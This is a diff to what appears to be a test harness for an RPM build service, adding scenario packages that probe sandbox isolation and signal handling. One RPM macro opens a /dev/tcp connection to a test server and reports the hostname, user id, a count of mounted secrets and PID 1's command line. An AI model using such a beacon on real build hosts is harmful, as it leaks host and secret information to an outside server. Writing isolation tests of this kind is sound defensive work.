@@ -16,6 +16,7 @@ BuildArch:      noarch
 %description
 A package that shows one thing.
 
+{sections}
 %build
 {build}
 
@@ -70,12 +71,15 @@ class Scenario:
     build: str = "true"
     check: str = "true"
     tags: str = ""
+    sections: str = ""
     options: dict[str, Any] = field(default_factory=dict)
 
     @property
     def spec(self) -> str:
         """Text of the spec file."""
-        return TEMPLATE.format(name=self.name, build=self.build, check=self.check, tags=self.tags)
+        return TEMPLATE.format(
+            name=self.name, build=self.build, check=self.check, tags=self.tags, sections=self.sections
+        )
 
 
 BARE_CHROOT = "bare-1-x86_64"
@@ -86,11 +90,11 @@ def scenarios(sources: SourceServer) -> tuple[Scenario, ...]:
     """All of them; `sources` is what untrusted code tries to reach."""
     host, port = sources.address
     network = NETWORK.format(host=host, port=port)
-    # Says where a macro ran: the host's name, who it was, and what PID 1 there is.
+    # Says where a macro ran: the host's name, who it was, how many secrets it saw, and what PID 1 is there.
     mark = (
-        f"%(exec 3<>/dev/tcp/{host}/{port} && {{ "
-        "echo GET /mark/$(hostname)/$(id -u)/$(tr -c a-z. _ < /proc/1/cmdline) HTTP/1.0; echo; } >&3 "
-        "&& cat <&3 >/dev/null; echo 1)"
+        f"%(bash -c 'exec 3<>/dev/tcp/{host}/{port} && {{ "
+        "echo GET /mark/$(hostname)/$(id -u)/$(ls -A /var/run/secrets | wc -l)/$(tr -c a-z. _ < /proc/1/cmdline) HTTP/1.0; echo; } >&3 "
+        "&& cat <&3 >/dev/null'; echo 1)"
     )
     return (
         Scenario("fails", build="echo 'error: the flux capacitor is missing' >&2\nexit 3"),
@@ -99,6 +103,9 @@ def scenarios(sources: SourceServer) -> tuple[Scenario, ...]:
             "endless", build="trap 'echo got INT' INT\ntrap 'echo got TERM' TERM\nwhile :; do sleep 1; done",
             options={"timeout": 30},
         ),
+        # rpm keeps signals from a package's scriptlet and from dnf until the scriptlet ends.
+        Scenario("sticky", sections="%post\ntrap '' INT TERM\nsleep 600\n"),
+        Scenario("stuck", tags="BuildRequires:  sticky\n", options={"timeout": 30, "afterBuild": "sticky"}),
         Scenario("homeless", options={"chroots": [BARE_CHROOT]}),
         Scenario("needy", tags="BuildRequires:  unobtainium-devel >= 3.1\n"),
         Scenario("offline", build=network, check=LOOPBACK),
